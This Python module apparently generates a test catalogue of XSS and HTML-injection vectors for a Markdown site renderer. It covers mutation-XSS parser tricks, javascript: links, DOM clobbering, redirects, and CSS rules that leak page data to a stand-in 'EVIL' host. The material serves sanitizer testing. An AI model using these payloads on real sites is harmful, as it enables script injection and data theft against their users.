"""Kinds of the other lists in places that they do not have: lists of attributes on what extensions make, notes of code, names that scripts read."""

from html import escape
from itertools import product

from hostile.payloads import EVIL, IMG, LEADS, ON, RUN

#: What extensions make, with a list of attributes where each takes one.
TAKING = {
    "callout": "> [!note] 字\n> 字\n{{: {} }}",
    "bracket": "[字]{{{}}}",
    "caret": "^^字^^{{: {} }}",
    "tilde": "~~字~~{{: {} }}",
    "mark": "==字=={{: {} }}",
    "keys": "++ctrl++{{: {} }}",
    "math": "$x${{: {} }}",
    "emoji": ":smile:{{: {} }}",
    "task": "- [ ] 字\n    {{: {} }}",
    "nested": "- 字\n    - 字\n    {{: {} }}",
    "meaning": "词\n:   义\n    {{: {} }}",
    "note": "字[^1]。\n\n[^1]: 注\n    {{: {} }}\n\n    字",
    "image": "![字](x.png){{: {} }}",
    "definition": "[字][x]{{: {} }}\n\n[x]: index.md",
    "word": "*字*{{: {} }} **字**",
    "code": "`x`{{: {} }}",
    "fence": "``` {{ .py {} }}\nx\n```",
    "table": "| 甲 |\n| --- |\n| 字 {{: {} }} |",
    "setext": "节 {{: {} }}\n---\n\n字。",
    "inside": '<div markdown="1">\n\n字\n{{: {} }}\n\n</div>',
    "quoted": "> > 字\n> > {{: {} }}",
}
GIVEN = {
    "acts": f"onpointerdown={ON}",
    "poses": 'id="__drawer"',
    "covers": 'style="position: fixed; inset: 0"',
    "names": 'class="md-search__form"',
    "wakes": 'popovertarget="__x"',
    "frames": f'srcdoc="{escape(IMG)}"',
}
#: Lists of which a fence takes nothing over.
DEAF = {("fence", what) for what in ("acts", "covers", "names", "wakes", "frames")}

#: What stands in a comment of code, and what a script of the theme puts beside the code.
SAYING = {
    "annotated": "``` py\nx  # (1)!\n```\n\n1. 字 {}",
    "annotated-table": "``` py\nx  # (1)!\n```\n\n1. | 甲 | 乙 |\n    | --- | --- |\n    | 字 | {} |",
    "annotated-quote": "``` py\nx  # (1)!\n```\n\n1. > 字 {}",
    "callout-title": "> [!note] 字 {}\n> 字",
    "block-title": "/// note | 字 {}\n字\n///",
    "block-tab": "/// tab | 字 {}\n字\n///",
    "block-details": "/// details | 字 {}\n字\n///",
    "figure-caption": "/// figure-caption\n字 {}\n///",
    "table-caption": "| 甲 |\n| --- |\n| 字 |\n\n/// table-caption\n字 {}\n///",
    "blocks-definition": "/// define\n词 {}\n\n- 义\n\n///",
    "nested-tab": '=== "甲"\n\n    === "乙"\n\n        字 {}',
    "box-in-cell": "| 甲 |\n| --- |\n| <details><summary>字 {}</summary></details> |",
    "in-caret": "^^字 {}^^",
    "in-mark": "==字 {}==",
    "in-sub": "~字~ ~~{}~~",
    "in-bracket": "[字 {}]{{.a}}",
}
SAID = {
    "picture": IMG,
    "drawing": f"<svg><a xlink:href={LEADS}><text y=9>字</text></a></svg>",
    "frame": f'<iframe src="//{EVIL}/"></iframe>',
}

#: What is made again when its HTML is written and read once more, or by a parser that knows less.
AGAIN = {
    "math-annotation": f"<math><annotation-xml encoding='application/xhtml+xml'><p><style><img title='</style>{IMG}'></p></annotation-xml></math>",
    "math-style-comment": f"<math><mi><style><!--</style></mi><mi title='--&gt;{escape(IMG)}'></mi></math>",
    "svg-title-style": f"<svg><desc><style><b id='</style>{IMG}'></style></desc></svg>",
    "svg-p": f"<svg></p><style><a id='</style>{IMG}'>",
    "svg-br": f"<svg><br><style><a id='</style>{IMG}'>",
    "math-table": f"<math><mtext><table><tr><td><mglyph><style><img title='</style>{IMG}'></td></tr></table></mtext></math>",
    "caption-table": f"<table><caption><table><td><svg><style><b id='</style>{IMG}'></table></caption></table>",
    "option-math": f"<select><option><math><mi><style><b id='</style>{IMG}'></select>",
    "noscript-attribute": f'<noscript><p title="</noscript>{escape(IMG, quote=False)}">',
    "noembed-attribute": f'<noembed><p title="</noembed>{escape(IMG, quote=False)}"></noembed>',
    "comment-nested": f"<!-- <!-- --!> {IMG} -->",
    "comment-hyphens": f"<!---{'-' * 5}!> {IMG} -->",
    "declaration": f"<!x '> {IMG} ' >",
    "instruction": f"<?x '> {IMG} ?>",
    "cdata-html": f"<![CDATA[> {IMG} ]]>",
    "cdata-math": f"<math><![CDATA[</math>{IMG}]]></math>",
    "end-attribute": f'</p title="{escape(IMG)}">{IMG}',
    "null-name": f"<img\x0bsrc=x.png onerror={ON}>",
    "self-close": f"<svg/><g onload={ON}></g></svg>",
    "ruby": f"<ruby><rtc><svg onload={ON}></svg></rtc></ruby>",
    "declared-shadow": f'<div><template shadowrootmode="closed"><svg onload={ON}></svg></template></div>',
    "late-template": f"<table><template><tr><td>{IMG}</td></tr></template></table>",
    "select-button": f"<select><button><selectedcontent></selectedcontent></button><option>{IMG}</option></select>",
    "image-element": f"<image src=x.png onerror={ON}>",
    "nested-anchors": f"<a href=index.md>字<div><a href={LEADS}>字</a></div></a>",
    "headings": f"<h2>字<h3 onclick={ON}>字</h3></h2>",
    "long-entity": f"<a href='&#x00000000000006A;avascript:{RUN}'>字</a>",
    "entity-without-end": f"<a href='&#106avascript:{RUN}'>字</a>",
    "double-entity": f"<iframe srcdoc='&amp;lt;img src=x onerror={RUN}&amp;gt;'></iframe>",
}

#: Ways of leading somewhere, of asking, and of being another part than it is.
LEADING = {
    "view-source": "[字](view-source:https://example.org/)",
    "blob-link": f"[字](blob:https://{EVIL}/1)",
    "data-page": "[字](data:text/html;charset=utf-7,+ADw-b+AD4-)",
    "data-svg-link": "[字](data:image/svg+xml;base64,PHN2Zy8+)",
    "javascript-line": f"[字](<java\u2028script:{RUN}> 'x') [字](<javascript:{RUN}>)",
    "javascript-reference": f"[字][x]\n\n[x]: <javascript:{RUN}>\n    '字'",
    "javascript-image-link": f"[![字](x.png)](javascript:{RUN})",
    "picture-source-media": f'<picture><source media="(min-width: 1px)" srcset="x.png 1x, //{EVIL}/x.png 2x"><img src="x.png" alt=""></picture>',
    "picture-source-type": f'<picture><source type="image/avif" srcset="data:image/svg+xml,x, //{EVIL}/x.avif"><img src="x.png" alt=""></picture>',
    "video-source": f'<video controls><source src="x.mp4"><track default src="//{EVIL}/x.vtt"></video>',
    "image-ping": f'<a href="index.md" ping="//{EVIL}/ index.md">字</a>',
    "link-alternate": f'<link rel="alternate stylesheet" title="x" href="//{EVIL}/x.css">',
    "link-preconnect": f'<link rel="preconnect" href="https://{EVIL}">',
    "link-module": f'<link rel="modulepreload" href="//{EVIL}/x.js">',
    "link-expect": '<link rel="expect" href="#__x" blocking="render">',
    "link-in-body": f'<p>字 <link itemprop="x" rel="stylesheet" href="//{EVIL}/x.css"></p>',
    "import-map": f'<script type="importmap">{{"imports": {{"#x": "//{EVIL}/x.js"}}}}</script>',
    "refresh-case": f'<META HTTP-EQUIV="Refresh" CONTENT="0; URL=//{EVIL}/">',
    "refresh-in-drawing": f'<svg><desc><meta http-equiv="refresh" content="0;url=//{EVIL}/"></desc></svg>',
    "base-in-table": f'<table><tr><td><base href="//{EVIL}/"></td></tr></table>',
    "button-form": '<button type="submit" form="__search_form">字</button>',
    "button-formaction": f'<button formaction="//{EVIL}/" formmethod="post">字</button>',
    "input-image": f'<input type="image" src="x.png" formaction="//{EVIL}/">',
    "dialog-open": '<dialog open><p>字</p><form method="dialog"><button>字</button></form></dialog>',
    "popover-auto": '<div id="cover" popover="auto">字</div>',
    "invoke-own": '<button commandfor="cover" command="toggle-popover">字</button>',
    "object-fallback": f'<object data="x.bin"><object data="//{EVIL}/x.svg"></object></object>',
    "embed-own": '<embed src="payload.txt" type="text/html">',
    "use-chain": f'<svg><use href="#a"/><symbol id="a"><use href="//{EVIL}/x.svg#b"/></symbol></svg>',
    "animate-values": f'<svg><a id="lead" href="index.md"><text y="9">字</text></a><animate href="#lead" attributeName="href" values="index.md;javascript:{RUN}" dur="1s"/></svg>',
    "animate-by-id": f'<svg><a><animate attributeName="xlink:href" begin="0s" from="javascript:{RUN}" to="#"/><text y="9">字</text></a></svg>',
    "set-class": '<svg><set href="#__drawer" attributeName="checked" to="checked"/></svg>',
    "foreign-frame": f'<svg><foreignObject width="9" height="9"><iframe src="//{EVIL}/"></iframe></foreignObject></svg>',
    "math-maction": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}"><mi>x</mi></maction></math>',
    "math-semantics": f'<math><semantics><mi>x</mi><annotation-xml encoding="text/html">{IMG}</annotation-xml></semantics></math>',
    "exfiltrate-attribute": f"<style>input[value^=a] {{ background: url(//{EVIL}/a) }}</style>",
    "exfiltrate-font": f"<style>@font-face {{ font-family: x; src: url(//{EVIL}/x.woff); unicode-range: U+61 }}</style>",
    "exfiltrate-has": f"<style>html:has([data-x]) {{ cursor: url(//{EVIL}/x), auto }}</style>",
    "look-variable": f'<p style="--md-x: url(//{EVIL}/x); background: var(--md-x)">字</p>',
    "look-entity": f'<p style="background&colon; ur&#108;(//{EVIL}/x)">字</p>',
    "look-cross-fade": f'<p style="background: -webkit-cross-fade(url(//{EVIL}/x), url(//{EVIL}/y), 50%)">字</p>',
    "look-cover": '<p style="margin-top: -40vh; height: 100vh; width: 100vw; opacity: 0">字</p>',
    "look-zoom": '<p style="zoom: 40">字</p>',
}

#: Names that scripts of a page ask the window, the document or a form for.
ASKED = ("forms", "cookie", "baseURI", "currentScript", "implementation", "scrollingElement")
CLOBBERING = {
    **{f"image-{name}": f'<img name="{name}" src="x.png" alt="">' for name in ASKED},
    **{
        f"frame-{name}": f'<iframe name="{name}" src="about:blank"></iframe>'
        for name in ("bitext", "localStorage", "trustedTypes", "caches")
    },
    "object-children": '<object name="children" data="x.bin"></object>',
    "form-nodes": '<form name="x"><input name="attributes"><input name="childNodes"></form>',
    "list-of-two": f'<a id="bitextConfig"></a><a id="bitextConfig" name="base" href="//{EVIL}/">字</a>',
    "map-name": '<map name="__md_get"><area href="index.md" alt=""></map>',
}


def spread_vectors() -> dict[str, str]:
    """Return all vectors of this list by their names."""
    found = {
        f"take-{place}-{what}": text.format(given)
        for (place, text), (what, given) in product(TAKING.items(), GIVEN.items())
        if (place, what) not in DEAF
    }
    found |= {
        f"say-{place}-{what}": text.format(said)
        for (place, text), (what, said) in product(SAYING.items(), SAID.items())
    }
    for kind, bodies in (("again", AGAIN), ("lead", LEADING), ("clobber", CLOBBERING)):
        found |= {f"{kind}-{name}": body for name, body in bodies.items()}
    return found
